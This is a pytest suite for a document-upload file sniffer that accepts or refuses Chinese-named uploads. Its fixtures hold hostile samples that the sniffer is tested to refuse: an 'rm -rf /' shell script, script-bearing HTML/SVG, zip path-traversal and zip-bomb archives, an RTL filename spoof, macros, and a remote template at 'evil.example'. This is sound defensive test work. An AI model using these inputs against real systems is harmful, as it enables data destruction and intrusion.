"""What is taken in, and what is turned away with which reason."""

import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gongkai.documents import FileRefused, Limits, Refusal, sniff
from gongkai.documents.signatures import HEAD_BYTES, is_executable, media_type_of
from tests.documents import samples

HTML = b"<html><body><script>alert(1)</script></body></html>"
WORD = samples.ole_bytes({"WordDocument": b"\xec\xa5" + b"\x00" * 4094})
SHEET = samples.ole_bytes({"Workbook": b"\x09\x08\x10\x00" + b"\x00" * 4092})
PACKAGES = [samples.docx_bytes(), WORD, samples.ofd_bytes("公告"), samples.xlsx_bytes()]


@pytest.fixture
def look(tmp_path):
    """Sniff bytes under a name."""

    def sniff_bytes(name, data, **limits):
        path = tmp_path / "upload"
        path.write_bytes(data)
        return sniff(name, path, limits=Limits(**limits))

    return sniff_bytes


@pytest.mark.parametrize(
    ("name", "data", "media_type"),
    [
        ("年报.pdf", samples.pdf_bytes(), "application/pdf"),
        ("公文.OFD", samples.ofd_bytes("公告"), "application/ofd"),
        (
            "通知.docx",
            samples.docx_bytes(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "名单.xlsx",
            samples.xlsx_bytes(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("通知.doc", WORD, "application/msword"),
        ("通知.wps", WORD, "application/vnd.ms-works"),
        ("通知.wps", samples.docx_bytes(), "application/vnd.ms-works"),
        ("名单.xls", SHEET, "application/vnd.ms-excel"),
        ("名单.et", SHEET, "application/vnd.ms-excel"),
        ("说明.txt", "说明".encode(), "text/plain"),
        ("说明.txt", "按规定公开信息".encode("gb18030"), "text/plain"),
        ("说明.txt", "按规定公开信息".encode("utf-16"), "text/plain"),
        ("名单.csv", "序号,单位\r\n1,区教育局\r\n".encode("gb18030"), "text/csv"),
        ("图.jpg", samples.JPEG, "image/jpeg"),
        ("图.jpeg", samples.JPEG, "image/jpeg"),
        ("图.png", samples.PNG, "image/png"),
        ("图.gif", samples.GIF, "image/gif"),
        ("图.webp", samples.WEBP, "image/webp"),
        ("录音.mp3", samples.MP3, "audio/mpeg"),
        ("视频.mp4", samples.MP4, "video/mp4"),
        (
            "附件.zip",
            samples.zip_bytes({"甲/通知.docx": samples.docx_bytes(), "说明.txt": b"a"}),
            "application/zip",
        ),
    ],
)
def test_takes_in(look, name, data, media_type):
    found = look(name, data)

    assert found.media_type == media_type
    assert found.extension == name.rpartition(".")[2].lower()
    assert found.label


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("程序.exe", samples.PE, Refusal.TYPE_NOT_ALLOWED),
        ("图.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", Refusal.TYPE_NOT_ALLOWED),
        ("页面.html", HTML, Refusal.TYPE_NOT_ALLOWED),
        ("无扩展名", b"a", Refusal.TYPE_NOT_ALLOWED),
        (".docx", samples.docx_bytes(), Refusal.TYPE_NOT_ALLOWED),
        ("", b"a", Refusal.BAD_NAME),
        ("年报\u202efdp.docx", samples.docx_bytes(), Refusal.BAD_NAME),
        ("空.pdf", b"", Refusal.EMPTY),
        ("程序.pdf", samples.PE, Refusal.EXECUTABLE),
        ("程序.txt", samples.PE, Refusal.EXECUTABLE),
        ("脚本.txt", b"#!/bin/sh\nrm -rf /\n", Refusal.EXECUTABLE),
        ("网页.jpg", HTML, Refusal.HTML),
        ("网页.doc", HTML, Refusal.HTML),
        ("表.xls", b"\xef\xbb\xbf <table><tr><td>1</td></tr></table>", Refusal.HTML),
        ("网页.txt", "<!DOCTYPE html><p>".encode("utf-16"), Refusal.HTML),
        ("图.png", b"<?xml version='1.0'?><svg xmlns='x' onload='a()'/>", Refusal.HTML),
        ("通知.pdf", samples.docx_bytes(), Refusal.CONTENT_MISMATCH),
        ("通知.docx", samples.pdf_bytes(), Refusal.CONTENT_MISMATCH),
        ("通知.docx", samples.xlsx_bytes(), Refusal.CONTENT_MISMATCH),
        ("通知.docx", samples.zip_bytes({"a.txt": b"a"}), Refusal.CONTENT_MISMATCH),
        ("附件.zip", samples.docx_bytes(), Refusal.CONTENT_MISMATCH),
        ("通知.ofd", samples.docx_bytes(), Refusal.CONTENT_MISMATCH),
        ("通知.doc", samples.docx_bytes(), Refusal.CONTENT_MISMATCH),
        ("通知.doc", SHEET, Refusal.CONTENT_MISMATCH),
        ("通知.doc", b"{\\rtf1 abc}", Refusal.CONTENT_MISMATCH),
        ("图.png", samples.JPEG, Refusal.CONTENT_MISMATCH),
        ("文.txt", bytes(range(256)) * 8, Refusal.CONTENT_MISMATCH),
        ("坏.pdf", b"%PDF-1.7 nothing more", Refusal.DAMAGED),
        ("坏.docx", samples.docx_bytes()[:200], Refusal.DAMAGED),
        ("坏.doc", WORD[:600], Refusal.CONTENT_MISMATCH),
        ("密.pdf", samples.pdf_bytes(password="secret"), Refusal.ENCRYPTED),
        ("密.docx", samples.ole_bytes({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), Refusal.ENCRYPTED),
        (
            "密.doc",
            samples.ole_bytes({"WordDocument": b"\xec\xa5" + b"\x00" * 8 + b"\x00\x01"}),
            Refusal.ENCRYPTED,
        ),
        (
            "密.xls",
            samples.ole_bytes({"Workbook": b"\x09\x08\x02\x00\x00\x00\x2f\x00\x00\x00"}),
            Refusal.ENCRYPTED,
        ),
        ("宏.docx", samples.with_member(samples.docx_bytes(), "word/vbaProject.bin", b"x"), Refusal.MACROS),
        (
            "宏.xlsx",
            samples.with_member(samples.xlsx_bytes(), "xl/macrosheets/sheet1.xml", b"x"),
            Refusal.MACROS,
        ),
        (
            "宏.doc",
            samples.ole_bytes({"WordDocument": b"\xec\xa5" + b"\x00" * 40}, ("Macros",)),
            Refusal.MACROS,
        ),
        ("外.zip", samples.zip_bytes({"../a.txt": b"a"}), Refusal.ZIP_PATH),
        ("外.zip", samples.zip_bytes({"/etc/a.txt": b"a"}), Refusal.ZIP_PATH),
        ("外.zip", samples.zip_bytes({"C:/a.txt": b"a"}), Refusal.ZIP_PATH),
        ("外.zip", samples.zip_bytes({"a\\..\\..\\b.txt": b"a"}), Refusal.ZIP_PATH),
        ("内.zip", samples.zip_bytes({"a.exe": samples.PE}), Refusal.ZIP_MEMBER),
        ("内.zip", samples.zip_bytes({"a.txt": samples.PE}), Refusal.EXECUTABLE),
        ("内.zip", samples.zip_bytes({"__MACOSX/._a": samples.PE}), Refusal.EXECUTABLE),
        ("内.zip", samples.zip_bytes({"a.docx": samples.pdf_bytes()}), Refusal.CONTENT_MISMATCH),
    ],
)
def test_turns_away(look, name, data, code):
    with pytest.raises(FileRefused) as refused:
        look(name, data)

    assert refused.value.code is code
    assert refused.value.message.endswith("。")


def test_remote_template_is_refused(look):
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    package = samples.with_member(samples.docx_bytes(), "word/_rels/settings.xml.rels", relations)

    with pytest.raises(FileRefused) as refused:
        look("通知.docx", package)

    assert refused.value.code is Refusal.REMOTE_TEMPLATE


def test_document_types_in_parts_are_refused(look):
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'

    with pytest.raises(FileRefused) as refused:
        look("通知.docx", samples.with_member(samples.docx_bytes(), "customXml/item1.xml", bomb))

    assert refused.value.code is Refusal.DAMAGED


def test_encrypted_zip_is_refused(look):
    data = bytearray(samples.zip_bytes({"a.txt": b"a"}))
    data[data.index(b"PK\x01\x02") + 8] |= 1

    with pytest.raises(FileRefused) as refused:
        look("密.zip", bytes(data))

    assert refused.value.code is Refusal.ENCRYPTED


def test_size_limit_is_told_in_megabytes(look):
    with pytest.raises(FileRefused) as refused:
        look("大.txt", b"a" * (1024 * 1024 + 1), max_bytes=1024 * 1024)

    assert refused.value.code is Refusal.TOO_LARGE
    assert "1 MB" in refused.value.message


@pytest.mark.parametrize(
    ("data", "limits"),
    [
        (samples.zip_bytes({"a.txt": b"\x20" * 8_000_000}), {}),
        (samples.zip_bytes({f"{n}.txt": b"a" for n in range(30)}), {"max_members": 20}),
        (samples.zip_bytes({"a.txt": bytes(range(32, 127)) * 100}), {"max_inflated": 5000}),
        (
            samples.zip_bytes({f"{n}.zip": samples.zip_bytes({"a.txt": b"a" * 900}) for n in range(9)}),
            {"max_inflated": 5000},
        ),
        (samples.zip_bytes({"a.zip": samples.zip_bytes({"b.zip": samples.zip_bytes({"c.txt": b"a"})})}), {}),
    ],
    ids=["ratio", "members", "inflated", "inflated by nested archives", "depth"],
)
def test_zip_bombs_are_refused(look, data, limits):
    with pytest.raises(FileRefused) as refused:
        look("弹.zip", data, **limits)

    assert refused.value.code is Refusal.ZIP_BOMB


def test_a_bomb_that_lies_about_its_size_is_not_inflated(look, monkeypatch):
    honest = samples.zip_bytes({"a.txt": b" " * 3_000_000})
    directory = honest.index(b"PK\x01\x02")
    lying = bytearray(honest)
    for at in (directory + 24, honest.index(b"PK\x03\x04") + 22):
        lying[at : at + 4] = (10).to_bytes(4, "little")
    read = []
    genuine = zipfile.ZipExtFile.read

    def counting(self, n=-1):
        data = genuine(self, n)
        read.append(len(data))
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting)

    with pytest.raises(FileRefused) as refused:
        look("谎.zip", bytes(lying))

    assert refused.value.code is Refusal.DAMAGED
    assert sum(read) <= 10


def test_chinese_names_packed_by_windows_are_shown_right(look):
    raw = "程序.exe".encode("gb18030")
    placeholder = "n" * len(raw)
    packed = samples.zip_bytes({placeholder: samples.PE}).replace(placeholder.encode(), raw)

    with pytest.raises(FileRefused) as refused:
        look("包.zip", packed)

    assert "程序.exe" in refused.value.message


@given(st.data())
@settings(max_examples=300, deadline=None)
def test_mutated_packages_are_read_or_refused(tmp_path_factory, data):
    original = data.draw(st.sampled_from(PACKAGES))
    mutated = bytearray(original)
    for _ in range(data.draw(st.integers(1, 12))):
        at = data.draw(st.integers(0, len(mutated) - 1))
        mutated[at] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(mutated)))
    path = tmp_path_factory.getbasetemp() / "mutated"
    path.write_bytes(bytes(mutated[:cut]))

    for name in ("a.docx", "a.doc", "a.ofd", "a.zip", "a.pdf", "a.txt"):
        try:
            assert sniff(name, path).extension == name[2:]
        except FileRefused as refused:
            assert refused.message


@pytest.mark.parametrize("place", ["高禾县", "阜河市", "甘塘镇", "赣北区", "富丘县", "青禾县"])
@pytest.mark.parametrize("encoding", ["gb18030", "utf-8"])
def test_chinese_text_is_no_program_whatever_it_begins_with(place: str, encoding: str) -> None:
    text = f"{place}民政局2023年政府信息公开工作年度报告\n" + "根据条例编制，现予公布。\n" * 4000
    for length in (len(text), 5000, 60):
        assert not is_executable(media_type_of(text[:length].encode(encoding)[:HEAD_BYTES]))


def test_a_program_is_one_whatever_its_strings_say() -> None:
    head = b"\xe9\x10\x01" + "高禾县民政局".encode("gb18030") * 50 + b"\xb8\x00\x4c\xcd\x21"
    told = {
        media_type_of(b"MZ" + head),
        media_type_of(b"\x7fELF" + head),
        media_type_of(b"#!/bin/sh\n" + head),
    }
    assert all(is_executable(media_type) for media_type in told)
    assert media_type_of(head) != "text/plain"
